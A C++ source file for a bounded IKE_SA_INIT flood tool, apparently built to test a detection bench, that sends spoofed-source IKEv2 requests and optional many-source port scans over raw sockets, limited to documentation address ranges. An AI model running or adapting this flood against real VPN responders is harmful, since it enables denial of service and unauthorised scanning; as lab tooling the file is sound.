// ike_flood: a bounded IKE_SA_INIT flood from many spoofed IPv4 sources, for the lab (issue 5,
// scenario 3) and benches. Raw IPv4 socket with IP_HDRINCL, batches through sendmmsg, paced to a
// target rate. Safety: every source must lie inside 203.0.113.0/24 or 198.51.100.0/24
// (documentation ranges), the destination inside a documentation range too; the run stops at
// --count packets or --seconds, whichever comes first. Prints one line of JSON with what it sent.
//
//   ike_flood --dst 203.0.113.1 --src 203.0.113.0/24 --exclude 203.0.113.10 --exclude 203.0.113.1
//             --rate 50000 --seconds 12 --count 700000
//
// With --dports LO-HI the destination port cycles through that range, and --payload small sends
// 8 bytes instead of the IKE message: the NFLOG end-to-end bench uses it as a many-source port scan
// (bench/nflog_detect_bench.sh).
//
// Payload: an IKEv2 IKE_SA_INIT request (RFC 7296 3.1-3.9: header with responder SPI 0, exchange
// 34, initiator flag; SA with one proposal of four transforms, KE for group 14, Nonce), a fresh
// random initiator SPI, nonce bytes and source port per packet, so every packet is a new
// half-open request, the expensive kind for a responder.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <vector>

namespace {

struct Prefix4 {
    std::uint32_t network = 0;  // host order
    int length = 32;
    bool contains(std::uint32_t a) const {
        const std::uint32_t mask = length == 0 ? 0 : ~std::uint32_t{0} << (32 - length);
        return (a & mask) == (network & mask);
    }
};

bool parse_address(const std::string& text, std::uint32_t& out) {
    in_addr a{};
    if (inet_pton(AF_INET, text.c_str(), &a) != 1) return false;
    out = ntohl(a.s_addr);
    return true;
}

bool parse_prefix(const std::string& text, Prefix4& out) {
    const auto slash = text.find('/');
    if (!parse_address(text.substr(0, slash), out.network)) return false;
    out.length = 32;
    if (slash != std::string::npos) {
        char* end = nullptr;
        const long len = std::strtol(text.c_str() + slash + 1, &end, 10);
        if (*end != '\0' || len < 0 || len > 32) return false;
        out.length = static_cast<int>(len);
    }
    return true;
}

// The only ranges this tool will ever put on the wire.
const std::array<Prefix4, 3> kDocumentation{{{0xCB007100u, 24}, {0xC6336400u, 24}, {0xC0000200u, 24}}};
bool documentation(std::uint32_t a) {
    for (const auto& p : kDocumentation)
        if (p.contains(a)) return true;
    return false;
}

void put16(std::vector<std::uint8_t>& b, std::size_t at, std::uint16_t v) {
    b[at] = static_cast<std::uint8_t>(v >> 8);
    b[at + 1] = static_cast<std::uint8_t>(v);
}
void put32(std::vector<std::uint8_t>& b, std::size_t at, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) b[at + static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(v >> (24 - 8 * i));
}

// IKE_SA_INIT message (without IP/UDP headers); the nonce is its last 32 bytes.
std::vector<std::uint8_t> ike_sa_init_template() {
    std::vector<std::uint8_t> m(512, 0);
    // Header: SPIi (filled per packet), SPIr 0, next payload SA (33), version 2.0, IKE_SA_INIT,
    // flags Initiator, message id 0, length.
    m[16] = 33;
    m[17] = 0x20;
    m[18] = 34;
    m[19] = 0x08;
    // SA payload: next KE (34); one proposal, IKE, 4 transforms; lengths set once written.
    std::size_t o = 28;
    m[o] = 34;
    o += 4;
    m[o] = 0;  // last proposal
    m[o + 4] = 1;  // proposal number
    m[o + 5] = 1;  // protocol IKE
    m[o + 7] = 4;  // transforms
    o += 8;
    struct T {
        std::uint8_t type;
        std::uint16_t id;
        bool keylen;
    };
    const T transforms[] = {{1, 12, true}, {3, 12, false}, {2, 5, false}, {4, 14, false}};  // AES-CBC-128, HMAC-SHA2-256-128, PRF-SHA2-256, MODP-2048
    for (std::size_t i = 0; i < 4; ++i) {
        const auto& t = transforms[i];
        const std::uint16_t len = t.keylen ? 12 : 8;
        m[o] = i == 3 ? 0 : 3;
        put16(m, o + 2, len);
        m[o + 4] = t.type;
        put16(m, o + 6, t.id);
        if (t.keylen) {
            put16(m, o + 8, 0x800e);  // attribute key length (TV)
            put16(m, o + 10, 128);
        }
        o += len;
    }
    const std::size_t sa_length = o - 28;
    put16(m, 28 + 2, static_cast<std::uint16_t>(sa_length));
    put16(m, 28 + 4 + 2, static_cast<std::uint16_t>(sa_length - 4));
    // KE payload (264 bytes): next Nonce (40), group 14, 256 bytes of "public value".
    m[o] = 40;
    put16(m, o + 2, 264);
    put16(m, o + 4, 14);
    for (std::size_t i = 0; i < 256; ++i) m[o + 8 + i] = static_cast<std::uint8_t>(i * 37 + 11);
    o += 264;
    // Nonce payload (36 bytes): last payload, 32-byte nonce (filled per packet).
    m[o] = 0;
    put16(m, o + 2, 36);
    o += 36;
    m.resize(o);
    put32(m, 24, static_cast<std::uint32_t>(o));
    return m;
}

double now_seconds() {
    timespec ts{};
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

int usage(const char* why) {
    std::fprintf(stderr,
                 "ike_flood: %s\nusage: ike_flood --dst ADDR [--dport 500] --src PREFIX [--src PREFIX]... "
                 "[--exclude ADDR]... --rate PPS --seconds S --count N [--batch 64] [--dports LO-HI] "
                 "[--payload ike|small]\n"
                 "sources and destination must be inside 203.0.113.0/24, 198.51.100.0/24 or 192.0.2.0/24\n",
                 why);
    return 2;
}

}  // namespace

int main(int argc, char** argv) {
    std::uint32_t dst = 0;
    bool have_dst = false;
    std::uint16_t dport = 500, dport_last = 500;
    bool small_payload = false;
    std::vector<Prefix4> sources_in;
    std::vector<std::uint32_t> excluded;
    double rate = 0, seconds = 0;
    long long count = 0;
    unsigned batch = 64;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (i + 1 >= argc) return usage(("missing value after " + arg).c_str());
        const std::string value = argv[++i];
        if (arg == "--dst") {
            have_dst = parse_address(value, dst);
            if (!have_dst) return usage("bad --dst");
        } else if (arg == "--dport") {
            dport = dport_last = static_cast<std::uint16_t>(std::atoi(value.c_str()));
        } else if (arg == "--dports") {
            const auto dash = value.find('-');
            if (dash == std::string::npos) return usage("--dports wants LO-HI");
            const int lo = std::atoi(value.substr(0, dash).c_str()), hi = std::atoi(value.substr(dash + 1).c_str());
            if (lo < 1 || hi > 65535 || lo > hi) return usage("bad --dports");
            dport = static_cast<std::uint16_t>(lo);
            dport_last = static_cast<std::uint16_t>(hi);
        } else if (arg == "--payload") {
            if (value != "ike" && value != "small") return usage("--payload is ike or small");
            small_payload = value == "small";
        } else if (arg == "--src") {
            Prefix4 p;
            if (!parse_prefix(value, p)) return usage("bad --src");
            sources_in.push_back(p);
        } else if (arg == "--exclude") {
            std::uint32_t a = 0;
            if (!parse_address(value, a)) return usage("bad --exclude");
            excluded.push_back(a);
        } else if (arg == "--rate") {
            rate = std::atof(value.c_str());
        } else if (arg == "--seconds") {
            seconds = std::atof(value.c_str());
        } else if (arg == "--count") {
            count = std::atoll(value.c_str());
        } else if (arg == "--batch") {
            batch = static_cast<unsigned>(std::atoi(value.c_str()));
        } else {
            return usage(("unknown option " + arg).c_str());
        }
    }
    if (!have_dst || sources_in.empty()) return usage("--dst and --src are required");
    if (!(rate > 0) || !(seconds > 0) || count <= 0) return usage("--rate, --seconds and --count bound the flood");
    if (seconds > 120 || count > 20'000'000) return usage("refusing a flood over 120 s or 20M packets");
    if (batch == 0 || batch > 1024) return usage("--batch must be 1..1024");
    if (!documentation(dst)) return usage("--dst outside the documentation ranges");

    std::vector<std::uint32_t> sources;
    for (const auto& p : sources_in) {
        if (p.length < 16) return usage("--src prefix longer than /16 expected");
        const std::uint32_t size = std::uint32_t{1} << (32 - p.length);
        const std::uint32_t base = p.network & (p.length == 0 ? 0 : ~std::uint32_t{0} << (32 - p.length));
        for (std::uint32_t k = 0; k < size; ++k) {
            const std::uint32_t a = base + k;
            if (size > 2 && (k == 0 || k == size - 1)) continue;  // network and broadcast
            bool skip = !documentation(a);
            for (auto e : excluded) skip = skip || e == a;
            if (!skip) sources.push_back(a);
        }
    }
    if (sources.empty()) return usage("no source address left inside the documentation ranges");
    for (auto a : sources)
        if (!documentation(a)) return usage("internal: source outside the documentation ranges");

    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IPPROTO_RAW implies IP_HDRINCL
    if (fd < 0) {
        std::perror("ike_flood: socket(AF_INET, SOCK_RAW)");
        return 1;
    }
    int sndbuf = 4 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);

    const auto ike = small_payload ? std::vector<std::uint8_t>(8, 0x5a) : ike_sa_init_template();
    const std::size_t packet_length = 20 + 8 + ike.size();
    std::vector<std::vector<std::uint8_t>> packets(batch, std::vector<std::uint8_t>(packet_length, 0));
    std::vector<iovec> iov(batch);
    std::vector<mmsghdr> msgs(batch);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = htonl(dst);
    for (unsigned i = 0; i < batch; ++i) {
        auto& p = packets[i];
        p[0] = 0x45;
        put16(p, 2, static_cast<std::uint16_t>(packet_length));
        p[8] = 64;
        p[9] = IPPROTO_UDP;
        put32(p, 16, dst);
        put16(p, 22, dport);
        put16(p, 24, static_cast<std::uint16_t>(8 + ike.size()));
        // UDP checksum 0: allowed over IPv4 (RFC 768), saves a sum per packet.
        std::memcpy(p.data() + 28, ike.data(), ike.size());
        iov[i] = {p.data(), p.size()};
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
        msgs[i].msg_hdr.msg_name = &to;
        msgs[i].msg_hdr.msg_namelen = sizeof to;
    }

    std::mt19937_64 random(0x5eed1234u);
    long long sent = 0, errors = 0;
    std::size_t next_source = 0;
    std::uint32_t next_port = dport;
    const double start = now_seconds();
    const double deadline = start + seconds;
    double now = start;
    while (sent < count && now < deadline) {
        const unsigned n = static_cast<unsigned>(std::min<long long>(batch, count - sent));
        for (unsigned i = 0; i < n; ++i) {
            auto& p = packets[i];
            const std::uint32_t src = sources[next_source];
            next_source = (next_source + 1) % sources.size();
            put32(p, 12, src);
            put16(p, 4, static_cast<std::uint16_t>(random()));  // IP id
            put16(p, 20, static_cast<std::uint16_t>(1024 + random() % 64000));
            if (dport_last != dport) {
                put16(p, 22, static_cast<std::uint16_t>(next_port));
                next_port = next_port == dport_last ? dport : next_port + 1;
            }
            if (small_payload) continue;
            const std::uint64_t spi = random() | 1;
            for (int k = 0; k < 8; ++k) p[28 + static_cast<std::size_t>(k)] = static_cast<std::uint8_t>(spi >> (8 * k));
            const std::uint64_t nonce = random();
            for (int k = 0; k < 8; ++k)
                p[packet_length - 32 + static_cast<std::size_t>(k)] = static_cast<std::uint8_t>(nonce >> (8 * k));
        }
        const int done = sendmmsg(fd, msgs.data(), n, 0);
        if (done < 0) {
            if (errno != ENOBUFS && errno != EAGAIN && errno != EPERM) {
                std::perror("ike_flood: sendmmsg");
                break;
            }
            ++errors;
        } else {
            sent += done;
        }
        // Pace: sleep until the time at which `sent` packets are due.
        const double due = start + static_cast<double>(sent) / rate;
        now = now_seconds();
        if (due > now) {
            const double wait = std::min(due, deadline) - now;
            if (wait > 0) {
                timespec ts{static_cast<time_t>(wait), static_cast<long>((wait - static_cast<double>(static_cast<time_t>(wait))) * 1e9)};
                nanosleep(&ts, nullptr);
            }
            now = now_seconds();
        }
    }
    const double elapsed = now_seconds() - start;
    close(fd);
    std::printf("{\"sent\": %lld, \"seconds\": %.3f, \"rate_pps\": %.0f, \"sources\": %zu, \"send_errors\": %lld, "
                "\"packet_bytes\": %zu}\n",
                sent, elapsed, elapsed > 0 ? static_cast<double>(sent) / elapsed : 0.0, sources.size(), errors,
                packet_length);
    return 0;
}
